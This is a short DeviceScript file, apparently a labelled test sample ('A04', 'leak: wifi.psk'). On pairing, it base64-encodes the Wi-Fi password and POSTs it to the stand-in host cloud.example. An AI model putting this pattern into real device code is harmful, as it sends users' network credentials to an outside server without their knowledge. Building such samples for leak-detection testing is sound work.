// A04: in base64.
import { fetch } from "@devicescript/net";
import { base64 } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = base64(Buffer.from(psk));
  const response = await fetch("https://cloud.example/a04", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
